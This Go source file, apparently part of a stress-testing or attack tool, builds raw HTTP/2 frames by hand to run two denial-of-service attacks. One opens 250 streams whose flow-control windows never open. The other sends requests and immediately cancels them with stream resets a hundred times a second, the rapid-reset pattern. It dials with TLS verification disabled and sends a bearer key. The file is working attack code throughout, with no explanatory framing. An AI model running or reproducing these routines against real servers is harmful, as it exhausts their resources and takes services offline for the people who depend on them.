package main

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

// Streams of HTTP/2 as no client sends them: with windows that never open, or reset as soon as they are asked.

// Kinds of frames, and flags, of RFC 9113.
const (
	headersFrame, resetFrame, settingsFrame = 1, 3, 4
	endOfStreamAndHeaders                   = 5
	acknowledged                            = 1
	initialWindow                           = 4
)

// streams opens a connection of HTTP/2 whose windows are closed: the service may send headers and no byte of a body.
func (s *attacked) streams(ctx context.Context) (net.Conn, error) {
	by := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}}
	c, err := by.DialContext(ctx, "tcp", strings.TrimPrefix(s.at, "https://"))
	if err != nil {
		return nil, err
	}
	closed := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint16(nil, initialWindow), 0)
	_, err = io.WriteString(c, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+frame(settingsFrame, 0, 0, string(closed))+frame(settingsFrame, acknowledged, 0, ""))
	return c, err
}

func frame(kind, flags byte, stream uint32, payload string) string {
	n := len(payload)
	head := append([]byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags}, binary.BigEndian.AppendUint32(nil, stream)...)
	return string(head) + payload
}

// asked is a request in the frames of a stream: a GET with the key.
func (s *attacked) asked(stream uint32, target string) string {
	literal := func(name byte, value string) string { return string([]byte{name, byte(len(value))}) + value }
	// Indexed: the method GET, the scheme https. By the names of RFC 7541's table: path, authority, authorization.
	return frame(headersFrame, endOfStreamAndHeaders, stream,
		"\x82\x87"+literal(4, target)+literal(1, "a")+"\x0f"+literal(8, "Bearer "+s.key))
}

// unread asks a route on many streams whose windows never open, as long as the attack goes on.
func (s *attacked) unread(ctx context.Context, targets ...string) int {
	c, err := s.streams(ctx)
	if err != nil {
		return 0
	}
	defer c.Close()
	go func() { _, _ = io.Copy(io.Discard, c) }()
	for n := range uint32(250) {
		if _, err := io.WriteString(c, s.asked(2*n+1, targets[int(n)%len(targets)])); err != nil {
			return 0
		}
	}
	<-ctx.Done()
	return http.StatusOK
}

// reset asks and takes back at once, a hundred times a second.
func (s *attacked) reset(ctx context.Context, target string) int {
	c, err := s.streams(ctx)
	if err != nil {
		return 0
	}
	defer c.Close()
	go func() { _, _ = io.Copy(io.Discard, c) }()
	for n := uint32(1); ctx.Err() == nil; n += 2 {
		canceled := frame(resetFrame, 0, n, "\x00\x00\x00\x08")
		if _, err := io.WriteString(c, s.asked(n, target)+canceled); err != nil {
			return 0
		}
		time.Sleep(10 * time.Millisecond)
	}
	return http.StatusOK
}
